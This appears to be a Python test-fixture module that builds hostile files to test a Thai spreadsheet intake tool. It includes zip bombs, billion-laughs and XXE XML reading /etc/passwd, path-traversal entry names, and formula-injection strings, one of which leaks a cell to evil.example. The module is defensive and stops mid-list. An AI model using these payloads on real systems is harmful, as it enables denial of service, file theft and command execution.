"""Hostile and broken returned files, built in code (no binary fixtures).

Each builder writes one file into ``folder`` and returns its path. ``CASES`` lists the
single-file cases with the problem code gather() must report for them (``None``: the file is
a good workbook and must come through as a candidate). Zip packages are written by a small
zip writer of our own, so that every field a hostile file could lie about can be set.

``CORPUS`` is what ``collect`` must survive: REAL returned workbooks of samples/6m made hostile
(bytes rewritten, or edited with openpyxl as a clerk's tool would), each with the outcome it must
have. ``REGRESSIONS`` builds the files of tests/regressions/ (``python tests/hostile.py`` rewrites
them).
"""

from __future__ import annotations

import datetime as dt
import functools
import io
import re
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterable, Mapping
from dataclasses import dataclass, field
from email.message import EmailMessage
from email.utils import format_datetime
from pathlib import Path

import xlsxwriter

XLSX_TYPE = ("application", "vnd.openxmlformats-officedocument.spreadsheetml.sheet")
MAIL_DATE = dt.datetime(2025, 1, 15, 9, 30, tzinfo=dt.timezone(dt.timedelta(hours=7)))
BOMB_SIZE = 1100 * 2**20  # what the real-size bomb's sheet inflates to

# --- building blocks -------------------------------------------------------------------


def workbook_bytes(text: str = "ผลการดำเนินงาน", macros: bool = False) -> bytes:
    """A small, valid workbook made with xlsxwriter; ``text`` makes its content unique."""
    buffer = io.BytesIO()
    book = xlsxwriter.Workbook(buffer, {"in_memory": True})
    book.set_properties({"created": dt.datetime(2025, 1, 1)})
    sheet = book.add_worksheet("มาตรการ")
    sheet.write_string(0, 0, "รหัสมาตรการ")
    sheet.write_string(0, 1, text)
    sheet.write_number(1, 0, 1)
    book.close()
    data = buffer.getvalue()
    if macros:
        data = rezip(data, add=[Entry("xl/vbaProject.bin", b"\xd0\xcf\x11\xe0 not really VBA")])
    return data


@dataclass
class Entry:
    """One zip entry as our writer should write it, lies included."""

    name: str
    data: bytes = b""
    method: int = zipfile.ZIP_DEFLATED
    flags: int = 0
    encoding: str = "utf-8"  # "cp874": a Thai Windows name without the UTF-8 flag
    declared_size: int | None = None  # lie about the uncompressed size
    crc: int | None = None  # lie about the CRC
    payload: bytes | None = None  # compressed bytes to write as they are


def zip_bytes(entries: Iterable[Entry]) -> bytes:
    """A zip archive holding ``entries`` exactly as described (no sanitising of any kind)."""
    local, central = io.BytesIO(), io.BytesIO()
    count = 0
    for entry in entries:
        payload = entry.payload if entry.payload is not None else _compress(entry)
        size = len(entry.data) if entry.declared_size is None else entry.declared_size
        crc = zlib.crc32(entry.data) if entry.crc is None else entry.crc
        _write_entry(local, central, entry, [payload], len(payload), size, crc)
        count += 1
    return _finish(local, central, count)


def rezip(
    data: bytes,
    edit: Callable[[str, bytes], bytes] | None = None,
    add: Iterable[Entry] = (),
) -> bytes:
    """Copy a zip, passing every entry through ``edit`` and appending ``add``."""
    with zipfile.ZipFile(io.BytesIO(data)) as source:
        entries = [
            Entry(info.filename, edit(info.filename, source.read(info)) if edit else source.read(info))
            for info in source.infolist()
        ]
    return zip_bytes([*entries, *add])


def ole_bytes(streams: dict[str, bytes]) -> bytes:
    """A minimal OLE compound file (MS-CFB v3, 512-byte sectors) with root-level ``streams``.

    Streams are padded to 4,096 bytes so that none lives in the mini stream; the directory
    tree is a chain of right siblings in the order CFB sorts names (a valid, unbalanced tree).
    """
    names = sorted(streams, key=lambda n: (len(n), n.upper()))
    dir_sectors = -(-(len(names) + 1) // 4)
    chains, next_free = [], 1 + dir_sectors
    for name in names:
        count = -(-max(len(streams[name]), 4096) // 512)
        chains.append(list(range(next_free, next_free + count)))
        next_free += count
    if next_free > 128:
        raise ValueError("streams too large for this tiny writer")
    fat = [0xFFFFFFFF] * 128
    fat[0] = 0xFFFFFFFD  # the FAT sector itself
    for chain in [list(range(1, 1 + dir_sectors)), *chains]:
        for this, following in zip(chain, [*chain[1:], 0xFFFFFFFE], strict=True):
            fat[this] = following
    directory = _ole_entry("Root Entry", 5, child=1 if names else 0xFFFFFFFF, start=0xFFFFFFFE, size=0)
    for index, name in enumerate(names, 1):
        sibling = index + 1 if index < len(names) else 0xFFFFFFFF
        directory += _ole_entry(name, 2, right=sibling, start=chains[index - 1][0], size=len(streams[name]))
    directory = directory.ljust(dir_sectors * 512, b"\0")
    for index in range(len(names) + 1, dir_sectors * 4):  # unused entries: no siblings, no child
        struct.pack_into("<III", directory, index * 128 + 68, 0xFFFFFFFF, 0xFFFFFFFF, 0xFFFFFFFF)
    body = b"".join(
        streams[name].ljust(len(chain) * 512, b"\0") for name, chain in zip(names, chains, strict=True)
    )
    header = struct.pack(
        "<8s16sHHHHH6sIIIIIIIII",
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1",
        b"\0" * 16,
        0x3E,  # minor version
        3,  # major version: 512-byte sectors
        0xFFFE,  # byte order
        9,  # sector shift
        6,  # mini sector shift
        b"\0" * 6,
        0,  # directory sectors (always 0 in version 3)
        1,  # FAT sectors
        1,  # first directory sector
        0,  # transaction signature
        4096,  # mini stream cutoff
        0xFFFFFFFE,  # first mini FAT sector: none
        0,
        0xFFFFFFFE,  # first DIFAT sector: none
        0,
    ) + struct.pack("<109I", 0, *[0xFFFFFFFF] * 108)
    return header + struct.pack("<128I", *fat) + bytes(directory) + body


def _ole_entry(
    name: str, kind: int, *, child: int = 0xFFFFFFFF, right: int = 0xFFFFFFFF, start: int, size: int
):
    encoded = name.encode("utf-16-le")
    return bytearray(
        struct.pack(
            "<64sHBBIII16sIQQIQ",
            encoded,
            len(encoded) + 2,
            kind,
            1,  # black
            0xFFFFFFFF,  # left sibling
            right,
            child,
            b"\0" * 16,
            0,
            0,
            0,
            start,
            size,
        )
    )


def mail_bytes(
    attachments: Iterable[tuple[str | None, bytes, tuple[str, str]]],
    subject: str = "ส่งแบบรายงาน ITA",
) -> bytes:
    """A saved e-mail with ``(filename, data, (maintype, subtype))`` attachments (RFC 2231 names)."""
    message = EmailMessage()
    message["From"] = "กองคลัง <finance@example.go.th>"
    message["To"] = "ita@example.go.th"
    message["Subject"] = subject
    message["Date"] = format_datetime(MAIL_DATE)
    message.set_content("เรียน ผู้รวบรวม\n\nส่งแบบรายงานตามแนบครับ\n")
    for filename, data, (maintype, subtype) in attachments:
        message.add_attachment(data, maintype=maintype, subtype=subtype, filename=filename)
    return message.as_bytes()


def _compress(entry: Entry) -> bytes:
    if entry.method != zipfile.ZIP_DEFLATED:
        return entry.data
    packer = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    return packer.compress(entry.data) + packer.flush()


_ZIP_TIME = (0, (45 << 9) | (1 << 5) | 15)  # 2025-01-15 00:00, as DOS time and date


def _write_entry(
    local, central, entry: Entry, chunks: Iterable[bytes], csize: int, size: int, crc: int
) -> None:
    """Write one local header and its data, and remember its central-directory record."""
    name = entry.name.encode(entry.encoding)
    flags = _flags(entry)
    offset = local.tell()
    local.write(
        struct.pack(
            "<4sHHHHHIIIHH",
            b"PK\x03\x04",
            20,
            flags,
            entry.method,
            *_ZIP_TIME,
            crc,
            csize,
            size,
            len(name),
            0,
        )
    )
    local.write(name)
    for chunk in chunks:
        local.write(chunk)
    _write_central(central, entry, csize, size, crc, offset)


def _write_central(central, entry: Entry, csize: int, size: int, crc: int, offset: int) -> None:
    """One central-directory record (which may point at any local header it likes)."""
    name = entry.name.encode(entry.encoding)
    record = struct.pack(
        "<4sHHHHHHIIIHHHHHII",
        b"PK\x01\x02",
        20,
        20,
        _flags(entry),
        entry.method,
        *_ZIP_TIME,
        crc,
        csize,
        size,
        len(name),
        0,
        0,
        0,
        0,
        0,
        offset,
    )
    central.write(record + name)


def _flags(entry: Entry) -> int:
    return entry.flags | (0x800 if entry.encoding == "utf-8" and not entry.name.isascii() else 0)


def _finish(local, central, count: int) -> bytes:
    """Append the central directory and its end record; return the archive (or write it)."""
    directory = central.getvalue()
    offset = local.tell()
    local.write(directory)
    local.write(struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, count, count, len(directory), offset, 0))
    return local.getvalue() if isinstance(local, io.BytesIO) else b""


def _package_entries(sheet: bytes | None = None) -> list[Entry]:
    """The parts of a minimal workbook, with ``sheet`` as its sheet1.xml when given."""
    with zipfile.ZipFile(io.BytesIO(workbook_bytes("bomb"))) as source:
        entries = [Entry(info.filename, source.read(info)) for info in source.infolist()]
    if sheet is not None:
        entries = [e for e in entries if e.name != "xl/worksheets/sheet1.xml"] + [
            Entry("xl/worksheets/sheet1.xml", sheet)
        ]
    return entries


def _write(folder: Path, name: str, data: bytes) -> Path:
    path = folder / name
    path.write_bytes(data)
    return path


# --- good files ------------------------------------------------------------------------


def good_thai_name(folder: Path) -> Path:
    """A good workbook whose name is Thai with spaces."""
    return _write(folder, "ผลการดำเนินงาน กองคลัง.xlsx", workbook_bytes("กองคลัง"))


def xlsx_renamed_pdf(folder: Path) -> Path:
    """A good workbook named .pdf: still a workbook (type by magic bytes)."""
    return _write(folder, "รายงาน.pdf", workbook_bytes("renamed"))


def xlsm_with_macros(folder: Path) -> Path:
    """A workbook carrying a VBA project: accepted, with an intake-macros warning."""
    return _write(folder, "กองช่าง.xlsm", workbook_bytes("macros", macros=True))


# --- not workbooks at all --------------------------------------------------------------


def empty_file(folder: Path) -> Path:
    return _write(folder, "ว่าง.xlsx", b"")


def pdf_renamed_xlsx(folder: Path) -> Path:
    return _write(
        folder, "pdf-renamed.xlsx", b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog >>\nendobj\n"
    )


def png_renamed_xlsx(folder: Path) -> Path:
    return _write(folder, "png-renamed.xlsx", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + b"\x00" * 20)


def csv_renamed_xlsx(folder: Path) -> Path:
    """A Thai CSV (Windows cp874) named .xlsx."""
    text = "รหัส,มาตรการ,ผล\r\nO1,เผยแพร่ข้อมูล,ดำเนินการแล้ว\r\n"
    return _write(folder, "csv-renamed.xlsx", text.encode("cp874"))


def html_saved_as_xls(folder: Path) -> Path:
    """What many systems export as '.xls': an HTML table."""
    return _write(folder, "export.xls", b"<html><body><table><tr><td>1</td></tr></table></body></html>\n")


def random_binary(folder: Path) -> Path:
    return _write(folder, "unknown.xlsx", bytes(range(256)) * 4)


def docx_renamed_xlsx(folder: Path) -> Path:
    entries = [
        Entry("[Content_Types].xml", b'<?xml version="1.0"?><Types/>'),
        Entry("word/document.xml", b"<w:document/>"),
    ]
    return _write(folder, "docx-renamed.xlsx", zip_bytes(entries))


def xlsb_shaped(folder: Path) -> Path:
    entries = [
        Entry("[Content_Types].xml", b'<?xml version="1.0"?><Types/>'),
        Entry("_rels/.rels", b"<Relationships/>"),
        Entry("xl/workbook.bin", b"\x83\x01\x00"),
        Entry("xl/worksheets/sheet1.bin", b"\x81\x01\x00"),
    ]
    return _write(folder, "binary.xlsb", zip_bytes(entries))


def ods_shaped(folder: Path) -> Path:
    entries = [
        Entry("mimetype", b"application/vnd.oasis.opendocument.spreadsheet", method=zipfile.ZIP_STORED),
        Entry("content.xml", b"<office:document-content/>"),
        Entry("META-INF/manifest.xml", b"<manifest:manifest/>"),
    ]
    return _write(folder, "libreoffice.xlsx", zip_bytes(entries))


# --- OLE compound files ----------------------------------------------------------------


def encrypted_ole(folder: Path) -> Path:
    """What Excel writes for a password-protected .xlsx: an OLE file with encryption streams."""
    streams = {
        "EncryptionInfo": b"\x04\x00\x04\x00\x40\x00\x00\x00" + b"\x00" * 200,
        "EncryptedPackage": b"\x00" * 5000,
    }
    return _write(folder, "รหัสผ่าน.xlsx", ole_bytes(streams))


def xls_ole(folder: Path) -> Path:
    """An old .xls: an OLE file with a Workbook stream (BIFF8 BOF record first)."""
    return _write(
        folder, "เก่า.xls", ole_bytes({"Workbook": b"\x09\x08\x10\x00\x00\x06\x05\x00" + b"\x00" * 100})
    )


def word97_ole(folder: Path) -> Path:
    return _write(
        folder, "บันทึก.xlsx", ole_bytes({"WordDocument": b"\xec\xa5" + b"\x00" * 100, "1Table": b"\0"})
    )


def damaged_ole(folder: Path) -> Path:
    """An OLE file whose header is garbage but which still holds an EncryptedPackage name."""
    data = bytearray(ole_bytes({"EncryptedPackage": b"\0" * 10, "EncryptionInfo": b"\0"}))
    data[30:32] = b"\x07\x00"  # impossible sector size
    return _write(folder, "damaged-ole.xlsx", bytes(data))


# --- broken or hostile zips ------------------------------------------------------------


def truncated_xlsx(folder: Path) -> Path:
    data = workbook_bytes("truncated")
    return _write(folder, "ตัดท้าย.xlsx", data[: len(data) * 2 // 3])


def crc_damaged_xlsx(folder: Path) -> Path:
    """A stored sheet part with one byte changed after its CRC was computed."""
    entries = _package_entries()
    for entry in entries:
        if entry.name == "xl/worksheets/sheet1.xml":
            entry.method = zipfile.ZIP_STORED
            entry.crc = zlib.crc32(entry.data)
            entry.data = entry.data.replace(b"sheetData", b"sheetDatA", 1)
    return _write(folder, "crc.xlsx", zip_bytes(entries))


def duplicate_names(folder: Path) -> Path:
    """Two sheet1.xml entries: openpyxl would silently read the last one."""
    entries = [*_package_entries(), Entry("xl/worksheets/sheet1.xml", b"<worksheet/>")]
    return _write(folder, "ซ้ำ.xlsx", zip_bytes(entries))


def duplicate_names_case(folder: Path) -> Path:
    entries = [*_package_entries(), Entry("XL/Workbook.xml", b"<workbook/>")]
    return _write(folder, "ซ้ำตัวพิมพ์.xlsx", zip_bytes(entries))


def unsafe_name(name: str) -> Callable[[Path], Path]:
    """A builder for a workbook with one extra entry called ``name`` (path traversal and kin)."""

    def build(folder: Path) -> Path:
        entries = [*_package_entries(), Entry(name, b"owned")]
        return _write(folder, "traversal.xlsx", zip_bytes(entries))

    build.__name__ = f"unsafe_name({name!r})"
    return build


def encrypted_entry(folder: Path) -> Path:
    entries = _package_entries()
    entries[-1].flags |= 1  # "encrypted" (ZipCrypto)
    return _write(folder, "zip-password.zip", zip_bytes(entries))


def deflate64_entry(folder: Path) -> Path:
    entries = _package_entries()
    entries[-1].method = 9
    entries[-1].payload = b"\0" * 10
    return _write(folder, "deflate64.xlsx", zip_bytes(entries))


def too_many_entries(folder: Path) -> Path:
    entries = [*_package_entries(), *(Entry(f"xl/media/image{i}.png", b"") for i in range(1000))]
    return _write(folder, "many.xlsx", zip_bytes(entries))


def overlapping_entries(folder: Path) -> Path:
    """Two central-directory records pointing at one local header (the non-recursive bomb trick)."""
    data = bytearray(zip_bytes(_package_entries()))
    end = data.rfind(b"PK\x05\x06")
    count, cd_size, cd_offset = struct.unpack_from("<HII", data, end + 10)
    first = data[cd_offset : cd_offset + 46 + struct.unpack_from("<H", data, cd_offset + 28)[0]]
    copy = bytearray(first)
    copy[46:] = b"X" * (len(copy) - 46)  # another name, same local header offset
    directory = data[cd_offset : cd_offset + cd_size] + copy
    tail = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, count + 1, count + 1, len(directory), cd_offset, 0)
    return _write(folder, "overlap.xlsx", bytes(data[:cd_offset] + directory + tail))


def overlap_bomb(folder: Path) -> Path:
    """A non-recursive bomb (Fifield): 30 central-directory records share one 20 MiB kernel.

    Each entry on its own passes the per-entry size and ratio checks; together they declare
    600 MiB, over ``max_total_bytes``.
    """
    unit = b'<row><c t="inlineStr"><is><t>overlap</t></is></c></row>'
    kernel = Entry("xl/worksheets/sheet1.xml", unit * (20 * 2**20 // len(unit)))
    payload = _compress(kernel)
    local, central = io.BytesIO(), io.BytesIO()
    for entry in _package_entries():
        if entry.name != kernel.name:
            data = _compress(entry)
            _write_entry(local, central, entry, [data], len(data), len(entry.data), zlib.crc32(entry.data))
    offset, crc = local.tell(), zlib.crc32(kernel.data)
    _write_entry(local, central, kernel, [payload], len(payload), len(kernel.data), crc)
    for number in range(2, 31):
        alias = Entry(f"xl/worksheets/sheet{number}.xml")
        _write_central(central, alias, len(payload), len(kernel.data), crc, offset)
    return _write(folder, "overlap-bomb.xlsx", _finish(local, central, len(_package_entries()) + 29))


def ratio_bomb(folder: Path) -> Path:
    """A 3 MiB run of one character compressing to 0.1 %: refused even under the default limits.

    (Deflate cannot do better than about 0.1 %; a repeated 40-byte row already gives 0.3 %, and
    legitimate 32,767-character cells 0.25 %, so the default 0.2 % sits between them.)
    """
    cell = b'<row r="1"><c r="A1" t="inlineStr"><is><t>' + b"A" * 3 * 2**20 + b"</t></is></c></row>"
    sheet = b"<worksheet><sheetData>" + cell + b"</sheetData></worksheet>"
    return _write(folder, "ratio.xlsx", zip_bytes(_package_entries(sheet)))


def big_sheet(folder: Path, size: int = 3 * 2**20) -> Path:
    """A plausible sheet of ``size`` bytes (ratio well above the threshold) for lowered limits."""
    rows = b"".join(
        b'<row r="%d"><c r="A%d"><v>%d</v></c></row>' % (i, i, i * 7919) for i in range(1, 200_000)
    )
    sheet = b"<worksheet><sheetData>" + rows[:size] + b"</sheetData></worksheet>"
    return _write(folder, "big.xlsx", zip_bytes(_package_entries(sheet)))


@functools.lru_cache(maxsize=1)
def _bomb_pieces() -> tuple[bytes, bytes, bytes, int, int, int]:
    """Deflate pieces of a sheet of BOMB_SIZE bytes: head, a 1 MiB kernel to repeat, tail.

    A full flush after each piece resets the compressor, so the kernel's compressed bytes can
    be written any number of times in a row and still form one valid deflate stream.
    """
    head = b'<?xml version="1.0" encoding="UTF-8"?>\n<worksheet><sheetData>'
    unit = b'<row><c t="inlineStr"><is><t>bomb</t></is></c></row>'
    kernel = unit * (2**20 // len(unit))
    tail = b"</sheetData></worksheet>"
    repeats = (BOMB_SIZE - len(head) - len(tail)) // len(kernel)
    packer = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    head_z = packer.compress(head) + packer.flush(zlib.Z_FULL_FLUSH)
    kernel_z = packer.compress(kernel) + packer.flush(zlib.Z_FULL_FLUSH)
    tail_z = packer.compress(tail) + packer.flush()
    crc = zlib.crc32(head)
    for _ in range(repeats):
        crc = zlib.crc32(kernel, crc)
    crc = zlib.crc32(tail, crc)
    size = len(head) + repeats * len(kernel) + len(tail)
    return head_z + kernel_z, kernel_z, tail_z, repeats - 1, size, crc


def real_bomb(folder: Path, declared: int | None = None) -> Path:
    """A real .xlsx-shaped zip whose sheet1.xml inflates to 1.1 GB from about 3 MB.

    Written by streaming the repeated compressed kernel, so building it stays light. With
    ``declared`` the sheet's headers lie: they declare that size (and a made-up CRC).
    """
    start, kernel_z, tail_z, repeats, size, crc = _bomb_pieces()
    path = folder / ("bomb.xlsx" if declared is None else f"bomb-declares-{declared}.xlsx")
    csize = len(start) + repeats * len(kernel_z) + len(tail_z)
    with open(path, "w+b") as handle:
        local, central = _FileSink(handle), io.BytesIO()
        entries = [e for e in _package_entries() if e.name != "xl/worksheets/sheet1.xml"]
        for entry in entries:
            payload = _compress(entry)
            _write_entry(
                local, central, entry, [payload], len(payload), len(entry.data), zlib.crc32(entry.data)
            )
        chunks = [start, *([kernel_z] * repeats), tail_z]
        sheet = Entry("xl/worksheets/sheet1.xml")
        if declared is None:
            _write_entry(local, central, sheet, chunks, csize, size, crc)
        else:
            _write_entry(local, central, sheet, chunks, csize, declared, 0x12345678)
        _finish(local, central, len(entries) + 1)
    return path


class _FileSink:
    """Just enough of BytesIO over a real file for the zip writer."""

    def __init__(self, handle: io.BufferedRandom) -> None:
        self.handle = handle

    def write(self, data: bytes) -> None:
        self.handle.write(data)

    def tell(self) -> int:
        return self.handle.tell()


# --- hostile XML inside a package ------------------------------------------------------

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">
<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>&lol9;</t></is></c></row></sheetData></worksheet>"""

EXTERNAL_ENTITY = b"""<?xml version="1.0" encoding="UTF-8" standalone="no"?>
<!-- a comment first, to get past naive checks -->
<!DOCTYPE workbook [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheets>
<sheet name="&xxe;" sheetId="1" r:id="rId1"
 xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"/></sheets></workbook>"""


def billion_laughs(folder: Path) -> Path:
    return _write(folder, "laughs.xlsx", zip_bytes(_package_entries(BILLION_LAUGHS)))


def external_entity(folder: Path) -> Path:
    entries = [
        Entry(e.name, EXTERNAL_ENTITY) if e.name == "xl/workbook.xml" else e for e in _package_entries()
    ]
    return _write(folder, "xxe.xlsx", zip_bytes(entries))


def utf16_doctype(folder: Path) -> Path:
    """The billion laughs again, in UTF-16: a byte search for '<!DOCTYPE' would miss it."""
    sheet = BILLION_LAUGHS.replace(b'version="1.0"', b'version="1.0" encoding="UTF-16"', 1)
    return _write(
        folder, "utf16.xlsx", zip_bytes(_package_entries(b"\xff\xfe" + sheet.decode().encode("utf-16-le")))
    )


def strict_ooxml(folder: Path) -> Path:
    """A workbook saved as 'Strict Open XML Spreadsheet': purl.oclc.org namespaces everywhere."""
    swaps = {
        b"http://schemas.openxmlformats.org/spreadsheetml/2006/main": b"http://purl.oclc.org/ooxml/spreadsheetml/main",
        b"http://schemas.openxmlformats.org/officeDocument/2006/relationships": (
            b"http://purl.oclc.org/ooxml/officeDocument/relationships"
        ),
    }

    def edit(name: str, data: bytes) -> bytes:
        for old, new in swaps.items():
            data = data.replace(old, new)
        return data

    return _write(folder, "strict.xlsx", rezip(workbook_bytes("strict"), edit))


# --- litter ----------------------------------------------------------------------------


def lock_file(folder: Path) -> Path:
    """The owner file Excel keeps next to an open workbook."""
    return _write(folder, "~$กองคลัง.xlsx", b"\x0bsomchai   " + b"\x00" * 150)


def libreoffice_lock(folder: Path) -> Path:
    return _write(folder, ".~lock.กองคลัง.xlsx#", b"somchai,host,2025-01-15;")


def thumbs_db(folder: Path) -> Path:
    return _write(folder, "Thumbs.db", ole_bytes({"Catalog": b"\0"}))


# --- mail and archives -----------------------------------------------------------------


def eml_thai_attachment(folder: Path) -> Path:
    """A saved e-mail with a Thai-named workbook (RFC 2231 continuations) and a signature image."""
    data = mail_bytes(
        [
            ("ผลการดำเนินงาน กองคลัง ไตรมาส 2 ปีงบประมาณ 2568.xlsx", workbook_bytes("eml"), XLSX_TYPE),
            ("image001.png", b"\x89PNG\r\n\x1a\n" + b"\0" * 30, ("image", "png")),
        ]
    )
    return _write(folder, "mail.eml", data)


def eml_octet_stream(folder: Path) -> Path:
    """A workbook attached as application/octet-stream with no name at all."""
    message = EmailMessage()
    message["From"] = "a@example.go.th"
    message["Subject"] = "ไม่มีชื่อไฟล์"
    message["Date"] = format_datetime(MAIL_DATE)
    message.set_content("แนบ")
    message.add_attachment(workbook_bytes("octet"), maintype="application", subtype="octet-stream")
    del message.get_payload()[1]["Content-Disposition"]
    return _write(folder, "octet.eml", message.as_bytes())


def eml_rfc2047_name(folder: Path) -> Path:
    """Outlook-style: the Thai file name as an RFC 2047 encoded word inside quotes."""
    import base64

    name = "=?UTF-8?B?" + base64.b64encode("กองช่าง.xlsx".encode()).decode() + "?="
    body = base64.encodebytes(workbook_bytes("rfc2047")).decode()
    text = (
        "From: b@example.go.th\r\nTo: ita@example.go.th\r\nSubject: ITA\r\n"
        "Date: Wed, 15 Jan 2025 09:30:00 +0700\r\nMIME-Version: 1.0\r\n"
        'Content-Type: multipart/mixed; boundary="XX"\r\n\r\n'
        "--XX\r\nContent-Type: text/plain; charset=utf-8\r\n\r\nแนบ\r\n"
        f'--XX\r\nContent-Type: application/octet-stream; name="{name}"\r\n'
        f'Content-Transfer-Encoding: base64\r\nContent-Disposition: attachment; filename="{name}"\r\n\r\n'
        f"{body}\r\n--XX--\r\n"
    )
    return _write(folder, "outlook.eml", text.encode())


def eml_no_workbook(folder: Path) -> Path:
    data = mail_bytes(
        [
            ("scan.pdf", b"%PDF-1.4\n", ("application", "pdf")),
            ("photo.jpg", b"\xff\xd8\xff\xe0" + b"\0" * 20, ("image", "jpeg")),
        ]
    )
    return _write(folder, "no-workbook.eml", data)


def eml_pdf_named_xlsx(folder: Path) -> Path:
    return _write(folder, "pdf-inside.eml", mail_bytes([("ITA.xlsx", b"%PDF-1.4\n", XLSX_TYPE)]))


def mbox_two_mails(folder: Path) -> Path:
    """A mailbox with two mails, each carrying a different workbook."""
    parts = []
    for number, division in enumerate(("กองคลัง", "กองช่าง"), 1):
        mail = mail_bytes(
            [(f"{division}.xlsx", workbook_bytes(f"mbox {division}"), XLSX_TYPE)], f"ITA {division}"
        )
        parts.append(b"From ita@example.go.th Wed Jan 15 09:3%d:00 2025\n" % number + mail + b"\n")
    return _write(folder, "inbox.mbox", b"".join(parts))


def zip_of_workbooks(folder: Path) -> Path:
    """A zip of two workbooks, one with a cp874 (Thai Windows) name, plus macOS litter."""
    entries = [
        Entry("finance.xlsx", workbook_bytes("zip finance")),
        Entry("ส่งคืน/กองช่าง.xlsx", workbook_bytes("zip thai"), encoding="cp874"),
        Entry("__MACOSX/._finance.xlsx", b"\x00\x05\x16\x07"),
        Entry("ส่งคืน/", b"", method=zipfile.ZIP_STORED),
        Entry("~$finance.xlsx", b"\x0bsomchai"),
    ]
    return _write(folder, "inbox.zip", zip_bytes(entries))


def zip_in_eml(folder: Path) -> Path:
    inner = zip_bytes([Entry("a.xlsx", workbook_bytes("zip in eml"))])
    return _write(folder, "zipped.eml", mail_bytes([("returns.zip", inner, ("application", "zip"))]))


def nested_too_deep(folder: Path) -> Path:
    """zip › zip › zip › zip › xlsx: one container deeper than the default max_depth opens."""
    data = zip_bytes([Entry("deep.xlsx", workbook_bytes("deep"))])
    for level in range(3):
        data = zip_bytes([Entry(f"level{level}.zip", data)])
    return _write(folder, "deep.zip", data)


@dataclass(frozen=True)
class Case:
    """One hostile or broken single file and what gather() must say about it."""

    build: Callable[[Path], Path]
    code: str | None  # None: a good workbook, passed on as a candidate
    member: str | None = None  # the source suffix (inside a container) the code is reported at


CASES = [
    Case(good_thai_name, None),
    Case(xlsx_renamed_pdf, None),
    Case(xlsm_with_macros, "intake-macros"),
    Case(empty_file, "intake-empty"),
    Case(pdf_renamed_xlsx, "intake-pdf"),
    Case(png_renamed_xlsx, "intake-image"),
    Case(csv_renamed_xlsx, "intake-csv-or-text"),
    Case(html_saved_as_xls, "intake-csv-or-text"),
    Case(random_binary, "intake-unknown-type"),
    Case(docx_renamed_xlsx, "intake-not-spreadsheet-zip"),
    Case(xlsb_shaped, "intake-xlsb"),
    Case(ods_shaped, "intake-ods"),
    Case(encrypted_ole, "intake-encrypted"),
    Case(xls_ole, "intake-xls"),
    Case(word97_ole, "intake-ole-other"),
    Case(damaged_ole, "intake-encrypted"),
    Case(truncated_xlsx, "intake-truncated"),
    Case(crc_damaged_xlsx, "intake-truncated"),
    Case(duplicate_names, "intake-zip-duplicate-name"),
    Case(duplicate_names_case, "intake-zip-duplicate-name"),
    Case(unsafe_name("../../evil.xml"), "intake-zip-unsafe-name"),
    Case(unsafe_name("xl/../../evil.xml"), "intake-zip-unsafe-name"),
    Case(unsafe_name("/etc/passwd"), "intake-zip-unsafe-name"),
    Case(unsafe_name("\\Windows\\evil.xml"), "intake-zip-unsafe-name"),
    Case(unsafe_name("..\\evil.xml"), "intake-zip-unsafe-name"),
    Case(unsafe_name("C:/evil.xml"), "intake-zip-unsafe-name"),
    Case(encrypted_entry, "intake-zip-encrypted-entry"),
    Case(deflate64_entry, "intake-zip-unsupported-compression"),
    Case(too_many_entries, "intake-zip-too-many-entries"),
    Case(overlapping_entries, "intake-truncated"),
    Case(overlap_bomb, "intake-zip-bomb"),
    Case(ratio_bomb, "intake-zip-bomb"),
    Case(billion_laughs, "xml-doctype-forbidden"),
    Case(external_entity, "xml-doctype-forbidden"),
    Case(utf16_doctype, "xml-doctype-forbidden"),
    Case(strict_ooxml, "intake-strict-ooxml"),
    Case(lock_file, "intake-skipped-temp"),
    Case(libreoffice_lock, "intake-skipped-temp"),
    Case(thumbs_db, "intake-skipped-temp"),
    Case(eml_pdf_named_xlsx, "intake-pdf", member="ITA.xlsx"),
    Case(eml_no_workbook, "intake-mail-no-workbook"),
    Case(nested_too_deep, "intake-too-deep", member="level2.zip › level1.zip › level0.zip"),
]


# === the collect corpus: REAL returned workbooks made hostile ==============================
#
# Every workbook case starts from a real returned workbook of samples/6m. Accepted ones are
# dated a day before the samples were saved (``older``): mixed with samples/6m, a corpus
# workbook never wins its division's merge, so the merged records must stay exactly those of
# samples/6m alone.

SAMPLES_6M = Path(__file__).resolve().parent.parent / "samples" / "6m"
OLDER = b"2022-09-30T08:30:00Z"  # the samples were saved 2022-10-01T08:30:00Z
INJECTIONS = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?leak="&A1,"คลิกที่นี่")',
    "+1",
    "-1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)
_SENTENCE = "ประชาสัมพันธ์ช่องทางการร้องเรียนการทุจริตผ่านเว็บไซต์ของหน่วยงาน ครั้งที่ 1/2566 "
LONG_TEXT = (_SENTENCE * (32767 // len(_SENTENCE) + 1))[:32766] + "ฯ"  # Excel's most: 32,767
READ_PARTS = (  # every XML part the collector (or calamine) parses
    "[Content_Types].xml",
    "_rels/.rels",
    "xl/workbook.xml",
    "xl/_rels/workbook.xml.rels",
    "xl/sharedStrings.xml",
    "xl/styles.xml",
    "xl/worksheets/sheet1.xml",
    "xl/worksheets/sheet2.xml",
    "xl/worksheets/sheet3.xml",
